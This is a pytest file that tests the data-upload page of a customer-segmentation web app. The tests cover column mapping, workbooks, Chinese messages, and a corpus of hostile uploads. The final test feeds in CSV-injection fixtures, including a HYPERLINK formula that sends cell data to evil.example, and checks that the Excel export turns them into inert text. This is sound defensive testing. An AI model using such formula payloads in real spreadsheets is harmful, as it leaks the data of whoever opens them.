"""The data page on the sample."""

from __future__ import annotations

from segmentation import formatting
from tests.app.conftest import app_state


def test_data_page_summarises_the_dataset(app, sample_workspace):
    app.switch_page("pages/data.py").run()
    assert not app.exception
    metrics = {m.label: m.value for m in app.metric}
    assert metrics["Customers"] == formatting.number(sample_workspace.n_customers, "en")
    assert metrics["Branches"] == "40"
    assert metrics["Date range"] == f"{sample_workspace.date_min} – {sample_workspace.date_max}"
    table = app.dataframe[0].value
    rows = sample_workspace.rows["transactions"]
    assert table["rows"].tolist()[0] == formatting.number(rows, "en")
    # the sample is in use: no button to go back to it
    assert not [b for b in app.button if b.key == "data_restore_sample"]
    load = app.button(key="data_load")
    assert load.disabled  # nothing uploaded yet


def test_data_page_in_chinese(app):
    app.sidebar.radio(key="_w_lang").set_value("zh").run()
    app.switch_page("pages/data.py").run()
    assert app_state(app).sidebar.lang == "zh"
    assert not app.exception
    assert app.title[0].value == "数据管理"
    assert app.dataframe[0].value["status"].tolist()[0] == "已加载"


import io  # noqa: E402

import pandas as pd  # noqa: E402
import pytest  # noqa: E402

BAD_HEADERS = ("client;when;total\nA1;2025-01-03;12\nA2;2025-01-05;8,5\nA3;2025-02-01;7\n"
               "A1;2025-02-03;20\nA4;2025-02-04;-2\n")


@pytest.fixture
def restore_sample(sample_workspace):
    yield
    from segmentation.workspace import Workspace, load_sample

    load_sample(Workspace())


def _selectbox(app, label: str):
    return next(s for s in app.selectbox if s.label == label)


def test_unknown_headers_are_refused_then_mapped_by_hand(app, restore_sample):
    before = app_state(app).sidebar.dataset
    app.switch_page("pages/data.py").run()
    app.file_uploader[0].set_value(("orders.csv", BAD_HEADERS.encode(), "text/csv"))
    app.run()
    assert not app.exception
    assert _selectbox(app, "amount (required)").value == "total"  # alias guess
    assert _selectbox(app, "customer ID (required)").value == "__ignore__"
    app.button(key="data_load").click().run()
    message = app.error[0].value.replace("\\", "")  # markdown escapes
    assert "Nothing was loaded" in message
    assert "'customer_id' was not found" in message and "'date' was not found" in message
    assert "'client'" in message  # the closest header is offered
    assert {m.label: m.value for m in app.metric}["Customers"] == formatting.number(
        sample_workspace_customers(app), "en")
    assert app_state(app).sidebar.dataset == before
    # the manager maps the two columns by hand and loads again
    _selectbox(app, "customer ID (required)").set_value("client")
    _selectbox(app, "date (required)").set_value("when")
    app.run()
    app.button(key="data_load").click().run()
    assert not app.exception
    assert app.success[0].value == "Loaded. Every page now uses the new data."
    metrics = {m.label: m.value for m in app.metric}
    # "8,5" is not a number (decimal comma): that row is skipped with a note
    assert metrics["Customers"] == "3" and metrics["Shipments"] == "4"
    assert metrics["Date range"] == "2025-01-03 – 2025-02-04"
    notes = app.expander[0].markdown[0].value
    assert "negative amount" in notes  # A4's refund
    assert "not a number" in notes and "8,5" in notes
    from segmentation.workspace import Workspace

    assert Workspace().current().dataset_id != before


def sample_workspace_customers(app) -> int:
    from segmentation.workspace import Workspace

    return Workspace().current().n_customers


def test_clash_when_one_column_feeds_two_fields(app):
    app.switch_page("pages/data.py").run()
    app.file_uploader[0].set_value(("orders.csv", BAD_HEADERS.encode(), "text/csv")).run()
    _selectbox(app, "customer ID (required)").set_value("client")
    _selectbox(app, "branch").set_value("client")
    app.run()
    assert "chosen for both customer ID and branch" in app.error[0].value
    assert app.button(key="data_load").disabled


def test_workbook_with_one_sheet_per_table(app, restore_sample):
    buffer = io.BytesIO()
    with pd.ExcelWriter(buffer) as writer:
        pd.DataFrame({"客户编号": ["K1", "K2", "K2"], "交易日期": ["2025-03-01"] * 3,
                      "金额": [10, 20, 30], "网点": ["西湖", "鼓楼", "鼓楼"]}).to_excel(
            writer, sheet_name="交易明细", index=False)
        pd.DataFrame({"客户编号": ["K1", "K2"], "客户类型": ["企业", "个人"],
                      "区域": ["华东", "华东"]}).to_excel(writer, sheet_name="客户资料",
                                                        index=False)
        pd.DataFrame({"x": [1]}).to_excel(writer, sheet_name="备注", index=False)
    app.switch_page("pages/data.py").run()
    app.radio(key="data_mode").set_value("workbook").run()
    app.file_uploader[0].set_value(("网点数据.xlsx", buffer.getvalue(),
                                    "application/vnd.ms-excel")).run()
    assert not app.exception
    assert "备注" in app.warning[0].value  # the sheet that is not a table
    app.button(key="data_load").click().run()
    assert not app.exception
    table = app.dataframe[0].value
    assert table["rows"].tolist() == ["3", "2", "–", "–"]  # tables not loaded: a dash
    assert {m.label: m.value for m in app.metric}["Customers"] == "2"


def test_failed_load_message_in_chinese(app):
    app_state(app).sidebar.lang = "zh"
    app.switch_page("pages/data.py").run()
    app.file_uploader[0].set_value(("orders.csv", b"a,b\n1,2\n", "text/csv")).run()
    app.button(key="data_load").click().run()
    message = app.error[0].value.replace("\\", "")  # markdown escapes
    assert "未导入任何数据，仍在使用之前的数据" in message
    assert "客户编号" in message


# --------------------------------------------------------------------------- hostile input
# The corpus of tests/hostile.py through the Data page, in both languages.

from tests.hostile import CASES, csv_bytes, workbook  # noqa: E402

MIME = {"csv": "text/csv", "txt": "text/plain", "xlsx": "application/vnd.ms-excel",
        "xls": "application/vnd.ms-excel"}


def _plain(text: str) -> str:
    return text.replace("\\", "")  # markdown escapes


def _upload(app, table: str, name: str, data: bytes) -> None:
    uploader = next(u for u in app.get("file_uploader") if u.proto.id.endswith(
        f"data_upload_{table}") or getattr(u, "key", None) == f"data_upload_{table}")
    uploader.set_value((name, data, MIME.get(name.rsplit(".", 1)[-1], "text/plain")))
    app.run()


@pytest.mark.parametrize("lang", ["en", "zh"])
@pytest.mark.parametrize("case", CASES, ids=[c.id for c in CASES])
def test_data_page_hostile_corpus(app, restore_sample, case, lang):
    if lang == "zh":
        app.sidebar.radio(key="_w_lang").set_value("zh").run()
    before = app_state(app).sidebar.dataset
    app.switch_page("pages/data.py").run()
    for table, (name, data) in case.files.items():
        _upload(app, table, name, data)
        assert not app.exception, app.exception
    fragment = case.en if lang == "en" else case.zh
    if case.outcome == "read_error":
        errors = [_plain(e.value) for e in app.error]
        assert any(fragment in e for e in errors), errors
        assert app.button(key="data_load").disabled  # nothing to load
        assert app_state(app).sidebar.dataset == before
        return
    app.button(key="data_load").click().run()
    assert not app.exception, app.exception
    if case.outcome == "load_error":
        message = _plain(app.error[-1].value)
        assert ("Nothing was loaded" if lang == "en" else "未导入任何数据") in message
        assert fragment in message
        assert app_state(app).sidebar.dataset == before  # the data in use is kept
        return
    customers = {m.label: m.value for m in app.metric}
    assert list(customers.values())[0] == str(case.customers)
    if case.code:
        notes = _plain(app.expander[0].markdown[0].value)
        assert fragment in notes, notes
    if "date_max" in case.extra:
        assert list(customers.values())[3].endswith(formatting.day(case.extra["date_max"], lang))


@pytest.mark.parametrize("lang", ["en", "zh"])
def test_uploader_accepts_xls_and_says_why(app, lang):
    app_state(app).sidebar.lang = lang
    app.switch_page("pages/data.py").run()
    for uploader in app.get("file_uploader"):
        assert ".xls" in list(uploader.proto.type)
        if lang == "en":
            assert "old .xls workbooks are accepted only to explain" in uploader.proto.help
            assert "read up to 500,000 rows and 256 MB unpacked" in uploader.proto.help
        else:
            assert "旧版 .xls 工作簿可以上传，但只会提示如何另存为 .xlsx" in uploader.proto.help
            assert "最多读取 500,000 行、解压后 256 MB" in uploader.proto.help
    app.radio(key="data_mode").set_value("workbook").run()
    assert ".xls" in list(app.get("file_uploader")[0].proto.type)


def test_workbook_is_read_once_per_upload(app, monkeypatch):
    """Regression: the sheet list was re-read from the workbook on every rerun (a zip bomb
    cost 47 s each time)."""
    import openpyxl

    calls = []
    real = openpyxl.load_workbook

    def counting(*args, **kwargs):
        calls.append(1)
        return real(*args, **kwargs)

    monkeypatch.setattr(openpyxl, "load_workbook", counting)
    rows = [["customer_id", "date", "amount"], ["C1", "2024-05-01", 3], ["C2", "2024-05-02", 4]]
    data = workbook(rows + [["C9", "2024-05-03", 41]], title="sheet-once")
    app.switch_page("pages/data.py").run()
    _upload(app, "transactions", "once.xlsx", data)
    assert not app.exception
    assert _selectbox(app, "Sheet").options == ["sheet-once"]
    _selectbox(app, "amount (required)").set_value("__ignore__").run()
    app.run()
    assert len(calls) == 1


def test_a_malformed_secrets_file_is_shown(app, tmp_path):
    from streamlit import config

    secrets = tmp_path / "secrets.toml"
    secrets.write_text('[connections.hq]\nhost = "db.example.com"\npassword = "hunter2\n',
                       encoding="utf-8")
    old = config.get_option("secrets.files")
    config.set_option("secrets.files", [str(secrets)])
    try:
        app.switch_page("pages/data.py").run()
        assert not app.exception
        message = _plain(app.error[0].value)
        assert message.startswith("The database connections in the secrets file are not "
                                  "available: the file")
        assert "is not valid TOML (line 3, column 20)" in message
        assert "hunter2" not in message
        app_state(app).sidebar.lang = "zh"
        app.run()
        message = _plain(app.error[0].value)
        assert "密钥文件中的数据库连接不可用" in message and "第 3 行第 20 列" in message
    finally:
        config.set_option("secrets.files", old)
    app.run()
    assert not [e for e in app.error if "secrets" in e.value]


def test_upload_of_a_text_file_saved_as_xls_in_workbook_mode(app, restore_sample):
    app.switch_page("pages/data.py").run()
    app.radio(key="data_mode").set_value("workbook").run()
    data = csv_bytes([["客户编号", "交易日期", "金额"], ["K1", "2024-05-01", 3],
                      ["K2", "2024-05-02", 4]], sep="\t")
    app.get("file_uploader")[0].set_value(("交易明细.xls", data, "application/vnd.ms-excel"))
    app.run()
    assert not app.exception
    app.button(key="data_load").click().run()
    assert {m.label: m.value for m in app.metric}["Customers"] == "2"


@pytest.mark.parametrize("lang", ["en", "zh"])
def test_the_date_order_is_asked_when_nothing_settles_it(app, restore_sample, lang):
    app_state(app).sidebar.lang = lang
    app.switch_page("pages/data.py").run()
    data = csv_bytes([["customer_id", "date", "amount"], ["C1", "01/03/2024", 5],
                      ["C2", "02/01/2024", 6], ["C1", "2024-02-15", 7]])
    _upload(app, "transactions", "dm.csv", data)
    order = app.selectbox(key="data_date_order")
    assert order.label == ("Dates written like 01/03/2024 are" if lang == "en"
                           else "形如 01/03/2024 的日期是")
    assert order.options == (["automatic (month/day, stated)", "day/month: 01/03/2024 = 1 March",
                              "month/day: 01/03/2024 = 3 January"] if lang == "en" else
                             ["自动（按月/日，并注明）", "日/月：01/03/2024 = 3月1日",
                              "月/日：01/03/2024 = 1月3日"])
    assert order.help.startswith("A date column of the upload writes dates as a/b/yyyy"
                                 if lang == "en" else "上传数据中有日期列使用 a/b/yyyy 格式")
    order.set_value("day").run()
    app.button(key="data_load").click().run()
    assert not app.exception
    metrics = list({m.label: m.value for m in app.metric}.values())
    assert metrics[3] == ("2024-01-02 – 2024-03-01" if lang == "en"  # read day first
                          else "2024年1月2日 – 2024年3月1日")
    assert app.success  # loaded, and without a note: the order was chosen
    assert not [e for e in app.expander if e.label.startswith(("Loaded with", "导入完成，有"))]


def test_no_date_order_question_when_the_data_settles_it(app):
    app.switch_page("pages/data.py").run()
    data = csv_bytes([["customer_id", "date", "amount"], ["C1", "25/03/2024", 5],
                      ["C2", "02/01/2024", 6]])
    _upload(app, "transactions", "dm2.csv", data)
    assert not [s for s in app.selectbox if s.key == "data_date_order"]


def test_hostile_names_loaded_here_export_as_values(app, restore_sample):
    """What the Data page loads is what the Tiers page exports: formula-like ids and names
    become text, control characters are gone, so the Excel list opens and runs nothing."""
    import openpyxl

    from segmentation.export import to_excel_bytes
    from segmentation.features import customer_view
    from segmentation.tiers import TierSettings, customer_list, score_customers
    from segmentation.workspace import Workspace

    ids = ["=1+1", "@C2", "C\x003", "-C4", "+C5", "C6"]
    names = ['=HYPERLINK("http://evil.example/?"&A2,"click")', "@SUM(A1:A9)", "Zhang\x0bWei",
             "-2+3", "+86 138", "Li"]
    tx = csv_bytes([["customer_id", "date", "amount"]] + [
        [ids[i % 6], f"2024-01-{10 + i}", 10 + i] for i in range(18)])
    customers = pd.DataFrame({"customer_id": ids, "name": names}).to_csv(index=False).encode()
    app.switch_page("pages/data.py").run()
    _upload(app, "transactions", "tx.csv", tx)
    _upload(app, "customers", "c.csv", customers)
    app.button(key="data_load").click().run()
    assert not app.exception
    assert "invisible control characters" in _plain(app.expander[0].markdown[0].value)
    engine = Workspace().engine()
    view = customer_view(engine, as_of=pd.Timestamp("2024-01-27"))
    listing = customer_list(score_customers(view), TierSettings())
    listing["name"] = listing["customer_id"].map(view["name"])  # as a role that may see it
    sheet = openpyxl.load_workbook(io.BytesIO(to_excel_bytes({"customers": listing}))).active
    cells = [c for row in sheet.iter_rows() for c in row]
    assert all(c.data_type != "f" for c in cells)
    values = {c.value for c in cells}
    assert {"'=1+1", "'@C2", "C3", "'-C4", "'+C5"} <= values
    assert {"'@SUM(A1:A9)", "Zhang\nWei", "'-2+3"} <= values  # \x0b is a line break
